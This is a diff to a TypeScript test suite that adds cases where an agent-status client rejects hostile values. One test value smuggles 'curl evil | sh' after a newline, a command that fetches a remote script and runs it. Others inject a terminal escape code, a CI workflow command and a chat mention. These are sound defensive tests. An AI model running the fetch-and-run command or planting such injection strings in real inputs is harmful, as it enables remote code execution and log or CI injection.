@@ -113,6 +113,19 @@ describe('readAgent', () => {
     ['an index that is not a number', { 'agent/self': json(selfWithIndex('many')) }],
     ['an agent that is not a server', { 'agent/self': json(selfWithIndex('1', false)) }],
     ['an HTML page', { 'status/leader': text('<html>hello</html>') }],
+    ...(
+      [
+        ['Version', '1.8.7\nNext: curl evil | sh'],
+        ['NodeName', 'n1\u001b[2J'],
+        ['NodeName', 'n'.repeat(257)],
+        ['NodeID', 'a b'],
+      ] as const
+    ).map(([field, value]): [string, Routes] => [
+      `a ${field} ${JSON.stringify(value).slice(0, 20)}`,
+      { 'agent/self': json(selfWithIndex('1', true, { [field]: value })) },
+    ]),
+    ['a leader that is not an address', { 'status/leader': json('x\n::add-mask::y') }],
+    ['peers that are not addresses', { 'status/peers': json(['<!channel>']) }],
     ['peers that are no texts', { 'status/peers': json([1, 2]) }],
     ['an error', { 'agent/self': text('oops', 500) }],
     ['a value without an entry', { 'kv/sentinel': json([]) }],
@@ -181,8 +194,8 @@ describe('an ACL token', () => {
   });
 });
 
-function selfWithIndex(applied_index: string, Server = true): unknown {
-  const Config = { NodeID: 'a', NodeName: 'b', Version: '1.8.7', Server };
+function selfWithIndex(applied_index: string, Server = true, over: object = {}): unknown {
+  const Config = { NodeID: 'a', NodeName: 'b', Version: '1.8.7', Server, ...over };
   return { Config, Stats: { raft: { applied_index, commit_index: '1' } } };
 }
 
